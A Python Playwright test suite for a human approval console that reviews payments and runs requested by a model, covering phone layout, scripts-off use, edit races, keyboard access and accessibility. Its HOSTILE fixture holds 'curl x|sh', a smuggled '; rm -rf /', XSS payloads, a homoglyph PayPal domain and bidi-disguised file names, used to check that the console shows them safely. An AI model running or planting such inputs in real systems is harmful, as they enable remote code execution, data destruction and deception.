"""The console in a real browser: on a phone, with scripts off and on, by keyboard, and looked through by axe-core."""

from __future__ import annotations

import re
from typing import Any

import pytest
from browser_kit import CLERK, NEEDS_CHROMIUM, Served, faults, no_sideways_scroll, person, picture
from playwright.sync_api import Browser, Page, expect

pytestmark = [pytest.mark.slow, NEEDS_CHROMIUM]

HOSTILE = {
    "cmd": "curl x|sh\r\x1b[2K   cmd: ls -la\u202egnp.exe \u2066\u2069\u200b\u3164\u115f\ufe0f\U000e0041"
    + " " * 60
    + "; rm -rf /",
    "host": "p\u0430ypal.com xn--80ak6aa92e.com \u05d0\u05d1 100 \u05d2",
    "items": [
        {"</pre><script>alert(1)</script>": "<img src=x onerror=alert(1)>"},
        "Z" + "\u0335\u0321\u0322" * 30,
        "x" * 600,
        "y\n" * 200,
    ],
    "token": "FAKE-TOKEN-0001",
}


def test_reading_and_approving_on_a_phone_with_scripts_off(browser: Browser, served: Served) -> None:
    """Signed in, found in the list, read in full, approved by a button of 48 px at the bottom of the screen."""
    approval = served.held("pay", payee="Ann Meier", amount=1250, memo="Invoice 4711")
    with person(browser, served, "b1", java_script_enabled=False) as page:
        no_sideways_scroll(page)
        picture(page, "list-phone")
        page.get_by_role("link", name='Pay 1250 to "Ann Meier"').click()
        no_sideways_scroll(page)
        picture(page, "approval-phone")
        for name in ("Approve", "Reject"):
            box = page.get_by_role("button", name=name, exact=True).bounding_box()
            assert box is not None
            assert box["height"] >= 48
            assert box["y"] + box["height"] <= 844
        for words in (
            "written by the model",
            "Ann Meier",
            "1250",
            "Invoice 4711",
            "may run once",
            "c_1",
            "treasury, other than c_1",
        ):
            expect(page.locator("main")).to_contain_text(words)
        page.get_by_role("button", name="Approve", exact=True).click()
        expect(page.locator("main")).to_contain_text("Approved, has not run yet (by b1")
        picture(page, "approved-phone")
    assert (
        served.decide(
            "pay", {"payee": "Ann Meier", "amount": 1250, "memo": "Invoice 4711"}, conversation="conv-1", session=CLERK
        )["decision"]
        == "allow"
    ), approval


def test_rejecting_needs_a_reason(browser: Browser, served: Served) -> None:
    """The browser itself leads to the field; with a reason and a private note it is rejected, and only the reason is told to the loop."""
    approval = served.held("pay", payee="Bob", amount=20)
    with person(browser, served, "b1") as page:
        page.goto(f"/approvals/{approval}")
        page.get_by_role("button", name="Reject", exact=True).click()
        expect(page.get_by_label("Reason (needed")).to_be_focused()
        page.get_by_label("Reason (needed").fill("wrong payee")
        page.get_by_label("Private note").fill("looks like fraud")
        page.get_by_role("button", name="Reject", exact=True).click()
        expect(page.locator("main")).to_contain_text("Rejected, does not run (by b1")
        picture(page, "rejected-phone")
    told = served.decide("pay", {"payee": "Bob", "amount": 20}, conversation=f"conv-{served.asked}", session=CLERK)
    assert (told["decision"], "wrong payee" in told["content"], "fraud" in told["content"]) == ("refuse", True, False)


def test_editing_makes_a_new_revision_for_somebody_else(browser: Browser, served: Served) -> None:
    """The change is shown against what stood there; the editor cannot approve it, another person can."""
    approval = served.held("pay", payee="Ann", amount=1250, memo="Invoice 4711\nof March")
    with person(browser, served, "b1") as page:
        page.goto(f"/approvals/{approval}")
        page.get_by_text("Change it before it is decided").click()
        page.get_by_label("amount", exact=False).first.fill("1050")
        page.locator("#edit-reason").fill("the invoice says 1050")
        picture(page, "editing-phone")
        page.get_by_role("button", name="Make this the new revision").click()
        expect(page.locator("main")).to_contain_text("This is revision 2, changed by b1")
        expect(page.locator("del")).to_have_text("1250")
        expect(page.locator("ins")).to_have_text("1050")
        expect(page.get_by_role("button", name="Approve", exact=True)).to_have_count(0)
        picture(page, "revision-phone")
        where = page.url
        page.goto(f"/approvals/{approval}")
        expect(page.locator("main")).to_contain_text("Replaced by a newer revision")
    with person(browser, served, "b2") as page:
        page.goto(where)
        page.get_by_role("button", name="Approve", exact=True).click()
        expect(page.locator("main")).to_contain_text("Approved, has not run yet (by b2")


def test_losing_a_race(browser: Browser, served: Served) -> None:
    """Who decides second is told who was first, and when; the page that lies open says by itself that it is not true any more."""
    approval = served.held("pay", payee="Cy", amount=7)
    path = f"/approvals/{approval}"
    with person(browser, served, "b1", java_script_enabled=False) as slow, person(browser, served, "b3") as watching:
        slow.goto(path)
        watching.goto(path)
        with person(browser, served, "b2", java_script_enabled=False) as quick:
            quick.goto(path)
            quick.get_by_role("button", name="Approve", exact=True).click()
        slow.get_by_role("button", name="Approve", exact=True).click()
        expect(slow.get_by_role("alert")).to_contain_text("It was decided before you")
        expect(slow.get_by_role("alert")).to_contain_text("approved by b2, 20")
        picture(slow, "lost-phone")
        expect(watching.get_by_role("status")).to_contain_text("This has changed since you opened it")
        picture(watching, "changed-phone")


def test_a_stale_page(browser: Browser, served: Served) -> None:
    """A vote over an old revision does not count; the new one is shown instead."""
    approval = served.held("pay", payee="Di", amount=30, memo="old")
    path = f"/approvals/{approval}"
    with person(browser, served, "b2", java_script_enabled=False) as page, person(browser, served, "b1") as editor:
        page.goto(path)
        editor.goto(path)
        editor.get_by_text("Change it before it is decided").click()
        editor.get_by_label("memo", exact=False).first.fill("new")
        editor.locator("#edit-reason").fill("typo")
        editor.get_by_role("button", name="Make this the new revision").click()
        expect(editor.locator("main")).to_contain_text("revision 2")
        page.get_by_role("button", name="Approve", exact=True).click()
        expect(page.get_by_role("alert")).to_contain_text("Nothing was decided. This is revision 2")
        picture(page, "stale-phone")
        page.get_by_role("button", name="Approve", exact=True).click()
        expect(page.locator("main")).to_contain_text("Approved, has not run yet (by b2")


def test_hostile_values(browser: Browser, served: Served) -> None:
    """Nothing in them runs, hides, reorders or leaves its box; the secret stands nowhere."""
    approval = served.held("run", **HOSTILE)
    with person(browser, served, "b1") as page:
        page.goto(f"/approvals/{approval}")
        no_sideways_scroll(page)
        picture(page, "hostile-phone")
        shown = page.locator("main").inner_text()
        for code in ("U+000D", "U+001B", "U+202E", "U+2066", "U+200B", "U+3164", "U+115F", "U+FE0F", "U+E0041", "60 spaces"):
            assert code in shown
        assert "mixes letters of Latin and Cyrillic" in shown
        assert "written in punycode, reads" in shown
        assert "FAKE-TOKEN" not in page.content()
        assert page.locator("main script, main img").count() == 0
        assert page.evaluate(_HIDDEN) == []
        assert page.evaluate(_OUTSIDE) == []
        expect(page.get_by_text("; rm -rf /")).to_be_visible()


_HIDDEN = r"""[...document.querySelectorAll("main .value, main .inline")]
    .filter((box) => /[\p{Cc}\p{Cf}\p{Co}\p{Zl}\p{Zp}\u034f\u115f\u1160\u2800\u3164\uffa0\ufe00-\ufe0f]/u.test(box.textContent.replaceAll("\n", "")))
    .map((box) => box.textContent)"""
_OUTSIDE = """[...document.querySelectorAll("main .value")]
    .filter((box) => { const at = box.getBoundingClientRect(); return at.left < 0 || at.right > window.innerWidth; })
    .map((box) => box.textContent)"""


def test_several_on_one_page(browser: Browser, served: Served) -> None:
    """Each stands there in full with a box of its own; only those that were marked are decided, and one that was lost says so."""
    names = [f"Batch {number}" for number in (1, 2, 3)]
    approvals = [served.held("pay", payee=name, amount=5) for name in names]
    with person(browser, served, "b1", java_script_enabled=False) as page:
        page.goto("/approvals/batch")
        no_sideways_scroll(page)
        picture(page, "batch-phone")
        boxes = [page.locator(f'input[name="item"][value="{approval}"]') for approval in approvals]
        assert [box.is_checked() for box in boxes] == [False] * 3
        boxes[0].check()
        boxes[2].check()
        with person(browser, served, "b2", java_script_enabled=False) as quick:
            quick.goto(f"/approvals/{approvals[2]}")
            quick.get_by_role("button", name="Approve", exact=True).click()
        page.get_by_role("button", name="Approve marked").click()
        expect(page.get_by_role("heading", level=1)).to_have_text("1 of 2 approvals counted")
        expect(page.locator("main")).to_contain_text("approved by b2")
        picture(page, "batch-done-phone")
        page.goto(f"/approvals/{approvals[1]}")
        expect(page.locator("main")).to_contain_text("waiting for a decision")


def test_by_keyboard(browser: Browser, served: Served) -> None:
    """From the top of the page to the button by Tab alone, in reading order, each stop visible."""
    approval = served.held("pay", payee="Key", amount=9)
    with person(browser, served, "b1") as page:
        page.goto(f"/approvals/{approval}")
        stops = []
        for _ in range(30):
            page.keyboard.press("Tab")
            stops.append(page.evaluate("(document.activeElement.innerText || document.activeElement.name || '').trim()"))
            assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") != "none"
            if stops[-1] == "Approve":
                break
        assert stops[0] == "To the content"
        assert stops[-5:] == ["note", "Grants", "grant", "Reject", "Approve"]
        page.keyboard.press("Enter")
        expect(page.locator("main")).to_contain_text("Approved, has not run yet (by b1")


@pytest.mark.parametrize(("scheme", "width"), [("light", 390), ("dark", 1200)])
def test_axe_finds_no_serious_fault(browser: Browser, served: Served, scheme: Any, width: int) -> None:
    """On every page, with everything unfolded, in both themes, on a phone and on a wide screen."""
    approvals = [served.held("pay", payee=f"Axe {scheme}", amount=12_500, memo="a\nb"), served.held("run", **HOSTILE)]
    looks: Any = {"color_scheme": scheme, "viewport": {"width": width, "height": 844}}
    found = {}
    with person(browser, served, **looks) as page:
        page.goto("/sign-in?failed=1")
        found["sign-in"] = faults(page)
        picture(page, f"sign-in-{scheme}-{width}")
    with person(browser, served, "b1", **looks) as page:
        paths = {one: one for one in ("approvals?status=all", "approvals/batch", "unknown", "grants", "approvals/none")}
        paths |= {name: f"approvals/{one}" for name, one in zip(("plain", "hostile"), approvals, strict=True)}
        for name, path in paths.items():
            page.goto(f"/{path}")
            page.evaluate("document.querySelectorAll('details').forEach((one) => (one.open = true))")
            no_sideways_scroll(page)
            found[name] = faults(page)
            picture(page, f"{re.sub('[^a-z]+', '-', name)}-{scheme}-{width}")
    with person(browser, served, "boss", **looks) as page:
        for name, path in audit_pages(page).items():
            page.goto(path)
            page.evaluate("document.querySelectorAll('details').forEach((one) => (one.open = true))")
            no_sideways_scroll(page)
            found[name] = faults(page)
            picture(page, f"{name}-{scheme}-{width}")
    assert {page: told for page, told in found.items() if told} == {}


def audit_pages(page: Page) -> dict[str, str]:
    """The pages of the audit, one call's found as a person finds it."""
    page.goto("/audit?kind=call.decided&tool=run")
    call = page.locator(".report td a").first.get_attribute("href")
    return {"audit": "/audit", "audit-none": "/audit?tool=none", "audit-call": str(call), "audit-report": "/audit/report"}


def test_the_audit_on_a_phone_with_scripts_off(browser: Browser, served: Served) -> None:
    """From the menu to a search, from a record to the life of its call; the month shows its charts; nothing is wider than the screen."""
    approval = served.held("pay", payee="Ann Audit", amount=77)
    with person(browser, served, "boss", java_script_enabled=False) as page:
        page.get_by_role("link", name="Audit", exact=True).click()
        no_sideways_scroll(page)
        page.get_by_text("Filter", exact=True).click()
        page.get_by_label("Tool", exact=True).fill("pay")
        page.get_by_label("held", exact=True).check()
        page.get_by_role("button", name="Show").click()
        no_sideways_scroll(page)
        page.locator(".report td a").first.click()
        expect(page.locator("main")).to_contain_text("asked to decide")
        expect(page.locator("main")).to_contain_text(approval)
        no_sideways_scroll(page)
        page.goto("/audit/report")
        expect(page.locator("main svg.narrow").first).to_be_visible()
        no_sideways_scroll(page)
